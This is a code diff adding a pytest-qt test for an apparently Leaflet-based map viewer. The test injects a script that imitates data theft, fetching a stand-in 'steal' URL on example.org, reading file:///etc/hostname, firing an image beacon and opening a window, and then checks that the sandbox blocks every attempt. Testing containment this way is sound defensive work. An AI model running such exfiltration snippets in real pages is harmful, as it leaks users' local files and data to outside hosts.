@@ -306,3 +306,45 @@ def test_no_network_requests(qtbot: Any, make_view: Callable[[], MapView]) -> No
     assert any(url.endswith("leaflet.js") for url in recorder.urls)
     assert recorder.remote_urls() == []
     assert view.requests.blocked == []
+
+
+def test_a_script_in_the_page_can_neither_leave_nor_reach_out(
+    qtbot: Any, make_view: Callable[[], MapView]
+) -> None:
+    """Behind the escaping: were a script to run in the page, the page still holds it in.
+
+    It tries what stolen-data scripts do: fetch remote and local URLs, load an image from a
+    server, open a window, and navigate the page to another local file. The fetches reject, the
+    window is refused, no request leaves, and the map stays our page with its state.
+    """
+    view = make_view()
+    view.set_payload(small_payload())
+    step(qtbot, view, DAY_1950)
+    page_url = view.url().toString()
+    attempts = """(function () {
+      var out = window.__attempts = { fetches: [] };
+      function tryFetch(url) {
+        fetch(url).then(function () { out.fetches.push('loaded ' + url); },
+                        function () { out.fetches.push('refused ' + url); });
+      }
+      tryFetch('https://example.org/steal?d=1');
+      tryFetch('file:///etc/hostname');
+      new Image().src = 'http://example.org/pixel.png';
+      out.opened = window.open('https://example.org/') !== null;
+      return true;
+    })()"""
+    assert js(qtbot, view, attempts) is True
+    qtbot.waitUntil(lambda: len(js(qtbot, view, "window.__attempts.fetches")) == 2, timeout=TIMEOUT)
+    fetches = js(qtbot, view, "window.__attempts.fetches")
+    assert sorted(fetches) == [
+        "refused file:///etc/hostname",
+        "refused https://example.org/steal?d=1",
+    ]
+    assert js(qtbot, view, "window.__attempts.opened") is False
+
+    view.eval_js("location.href = 'file:///etc/hostname'; true")
+    qtbot.wait(1000)  # a navigation that were allowed would have replaced the page by now
+    assert view.url().toString() == page_url
+    assert js(qtbot, view, "geohist.state().lit") == ["dalian", "lushun", "moscow"]
+    assert view.requests.remote_urls() == view.requests.blocked
+    assert not any("etc/hostname" in url for url in view.requests.urls)
